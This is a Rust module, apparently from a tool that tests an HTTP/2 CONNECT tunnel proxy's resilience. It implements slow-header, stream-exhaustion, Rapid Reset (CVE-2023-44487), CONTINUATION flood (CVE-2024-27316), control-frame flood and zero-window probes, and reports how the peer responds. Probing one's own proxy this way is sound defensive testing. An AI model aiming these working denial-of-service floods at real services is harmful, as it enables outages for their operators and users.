//! Much, endlessly or slowly.

use std::{
    io,
    time::{Duration, Instant},
};

use super::Round;
use crate::hbone::{
    frame::{END_HEADERS, Frame, Kind},
    hpack::encode,
    raw::{Raw, ending},
};

/// Error code CANCEL (RFC 9113, 7).
const CANCEL: u32 = 8;

/// After this long a flood that still goes on is borne with patience.
const LONG: Duration = Duration::from_secs(3);

/// After this long without a request any peer should have had enough: a mesh's relay has after 10 seconds.
const NO_REQUEST: Duration = Duration::from_secs(12);

/// Frames between two looks at what came back.
const BURST: u32 = 50;

/// A header block octet by octet; it is only the time that is wrong with it.
pub(super) fn slow_headers(round: &Round<'_>) -> io::Result<String> {
    let authority = round.args.authority.to_string();
    let frame = Frame::new(
        Kind::Headers,
        END_HEADERS,
        1,
        encode(&[(":method", "CONNECT"), (":authority", &authority), ("x-slow", &"x".repeat(512))]),
    );
    let mut raw = round.open(&[])?;
    raw.set_patience(Duration::from_millis(100))?;
    let start = Instant::now();
    for octet in frame.octets() {
        raw.send_octets(&[octet])?;
        match seen(&mut raw) {
            Some(outcome) => return Ok(outcome),
            None if start.elapsed() > NO_REQUEST => return Ok("patient".to_owned()),
            None if round.is_over() => return Ok("cut short".to_owned()),
            None => {}
        }
    }
    Ok(raw.outcome())
}

/// What has come back so far that ends the matter.
fn seen(raw: &mut Raw) -> Option<String> {
    loop {
        match raw.receive() {
            Ok(frame) if frame.kind == Kind::GoAway => {
                return Some(format!("goaway {}", frame.error_code().unwrap_or_default()));
            }
            Ok(_) => {}
            Err(error) if ending(&error) == "silent" => return None,
            Err(error) => return Some(ending(&error)),
        }
    }
}

/// Many more tunnels than were allowed, all kept open; what the last of them got.
pub(super) fn streams(round: &Round<'_>) -> io::Result<String> {
    let authority = round.args.authority.to_string();
    let mut raw = round.open(&[])?;
    for number in 0..1000 {
        if let Err(error) = raw.tunnel(number * 2 + 1, &authority) {
            return Ok(format!("closed, they could not be sent ({})", ending(&error)));
        }
        if round.is_over() {
            // Too few of them for their peer to have had enough.
            return Ok("cut short".to_owned());
        }
    }
    // The first answer has its time; after the last, nothing more comes.
    let mut last = None;
    loop {
        match raw.receive() {
            Ok(frame) if frame.kind == Kind::RstStream => {
                last = Some(format!("rst {}", frame.error_code().unwrap_or_default()));
                raw.set_patience(Duration::from_millis(500))?;
            }
            Ok(frame) if frame.kind == Kind::GoAway => {
                return Ok(format!("goaway {}", frame.error_code().unwrap_or_default()));
            }
            Ok(_) => {}
            Err(error) => return Ok(last.unwrap_or_else(|| ending(&error))),
        }
    }
}

/// Sends bursts of frames until the peer has had enough, or the time is over.
fn flood(round: &Round<'_>, raw: &mut Raw, mut frames: impl FnMut(u32) -> Vec<Frame>) -> io::Result<String> {
    raw.set_patience(Duration::from_millis(1))?;
    let start = Instant::now();
    let mut number = 0;
    while !round.is_over() && number < u32::MAX / 4 {
        for _ in 0..BURST {
            for frame in frames(number) {
                if raw.send(&frame).is_err() {
                    return Ok(seen(raw).unwrap_or_else(|| "closed".to_owned()));
                }
            }
            number += 1;
        }
        if let Some(outcome) = seen(raw) {
            return Ok(outcome);
        }
    }
    // One that the end of the run cut short says nothing about the peer.
    Ok(if start.elapsed() < LONG { "cut short" } else { "patient" }.to_owned())
}

/// Tunnels that are asked for and reset in the same breath (CVE-2023-44487).
pub(super) fn rapid_reset(round: &Round<'_>) -> io::Result<String> {
    let block = encode(&[(":method", "CONNECT"), (":authority", &round.args.authority.to_string())]);
    let mut raw = round.open(&[])?;
    flood(round, &mut raw, |number| {
        let stream = number * 2 + 1;
        vec![Frame::new(Kind::Headers, END_HEADERS, stream, block.clone()), Frame::rst_stream(stream, CANCEL)]
    })
}

/// A header block without an end (CVE-2024-27316).
pub(super) fn continuation(round: &Round<'_>) -> io::Result<String> {
    let more = encode(&[("x-more", &"x".repeat(256))]);
    let mut raw = round.open(&[])?;
    raw.send(&Frame::new(Kind::Headers, 0, 1, encode(&[(":method", "CONNECT")])))?;
    flood(round, &mut raw, |_| vec![Frame::new(Kind::Continuation, 0, 1, more.clone())])
}

/// PING and SETTINGS, each of which asks for an answer.
pub(super) fn control(round: &Round<'_>) -> io::Result<String> {
    let mut raw = round.open(&[])?;
    flood(round, &mut raw, |_| vec![Frame::new(Kind::Ping, 0, 0, [0; 8]), Frame::settings(&[(3, 100)])])
}

/// A tunnel whose answers have no window to come back in, into which bytes are sent as long as it takes them.
pub(super) fn zero_window(round: &Round<'_>) -> io::Result<String> {
    /// SETTINGS_INITIAL_WINDOW_SIZE.
    const INITIAL_WINDOW: u16 = 4;
    let mut raw = round.open(&[(INITIAL_WINDOW, 0)])?;
    raw.tunnel(1, &round.args.authority.to_string())?;
    let outcome = raw.outcome();
    if outcome != "status 200" {
        return Ok(outcome);
    }
    // Less than the smallest window of a stream.
    raw.send(&Frame::new(Kind::Data, 0, 1, vec![b'x'; 16_000]))?;
    raw.set_patience(Duration::from_millis(500))?;
    while !round.is_over() {
        match raw.receive() {
            Ok(frame) if frame.kind == Kind::Data && !frame.payload.is_empty() => {
                return Ok("the window was not heeded".to_owned());
            }
            Ok(frame) if matches!(frame.kind, Kind::RstStream | Kind::GoAway) => {
                return Ok(format!("ended {}", frame.error_code().unwrap_or_default()));
            }
            Ok(_) => {}
            Err(error) if ending(&error) == "silent" => {}
            Err(error) => return Ok(ending(&error)),
        }
    }
    Ok("held".to_owned())
}
